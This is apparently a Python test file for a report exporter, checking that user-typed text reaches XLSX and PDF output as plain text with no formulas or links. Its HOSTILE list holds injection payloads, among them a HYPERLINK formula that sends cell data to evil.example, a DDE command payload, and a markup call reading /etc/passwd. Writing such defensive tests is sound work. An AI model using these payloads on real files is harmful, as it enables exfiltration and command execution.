"""Whatever people typed stays text on paper and in a workbook."""

import io
import zipfile
from pathlib import Path

import openpyxl
import pypdfium2
import pytest

from backend.domain.errors import DomainError
from backend.reports.pdf import Typesetter
from backend.reports.sheet import Column, Sheet, plain_text
from backend.reports.xlsx import write_xlsx
from backend.web.assets import BUNDLED_FONTS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "{=1+1}",
    "http://evil.example/",
    "internal:Sheet2!A1",
    "0123456789012345678",
    '#eval("1+1") #read("/etc/passwd")',
    '#import "@preview/x:1.0.0": *',
    "*bold* _it_ $x^2$ <label> @ref `raw` \\n // 注释",
    "</t></is></c><c><f>1+1</f></c>",
    "零宽\u200b与控制\x00\x07\x1b[31m字符",
]


def made(rows: list[list[str | int | float | None]], **more: object) -> Sheet:
    return Sheet(
        title="=1+1 #emph[标题]",
        facts=[("范围", "=1+1"), ("导出人", "#lorem(3)")],
        columns=[Column("=A1"), Column("数", 3, number=True)],
        rows=rows,
        made_at="2026-09-22 10:00:00",
        **more,  # type: ignore[arg-type]  # the rest of Sheet's fields
    )


def test_a_workbook_holds_no_formula_and_no_link_whatever_was_typed() -> None:
    data = write_xlsx(made([[one, 1] for one in HOSTILE]))
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [
        cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value is not None
    ]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert all(cell.hyperlink is None for cell in cells)
    held = {cell.value for cell in cells}
    assert {plain_text(one) for one in HOSTILE} <= held
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert not [one for one in names if "external" in one.lower() or "vba" in one.lower()]
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    assert b"<hyperlink" not in xml


def test_the_same_sheet_gives_the_same_bytes() -> None:
    assert write_xlsx(made([["a", 1]])) == write_xlsx(made([["a", 1]]))


def test_paper_shows_markup_as_it_was_typed() -> None:
    pdf = Typesetter(BUNDLED_FONTS).pdf(
        made([[one, 1] for one in HOSTILE], warning="#panic()", sign_offs=["填表人"])
    )
    said = "".join(
        page.get_textpage().get_text_range() for page in pypdfium2.PdfDocument(pdf)
    ).replace("\u200b", "")
    squeezed = "".join(said.split())
    for one in ('#read("/etc/passwd")', "*bold*_it_$x^2$", "=1+1#emph[标题]", "#panic()"):
        assert one in squeezed, one


def test_a_long_text_is_cut_to_what_a_cell_can_hold() -> None:
    data = write_xlsx(made([["章" * 40_000, 1]]))
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert (
        max(len(str(cell.value)) for row in book.worksheets[0].iter_rows() for cell in row)
        == 32_767
    )


def test_without_a_font_people_are_told_what_to_do(tmp_path: Path) -> None:
    for folder in (tmp_path, tmp_path / "gone"):
        with pytest.raises(DomainError, match="fonts_dir"):
            Typesetter(folder).pdf(made([]))
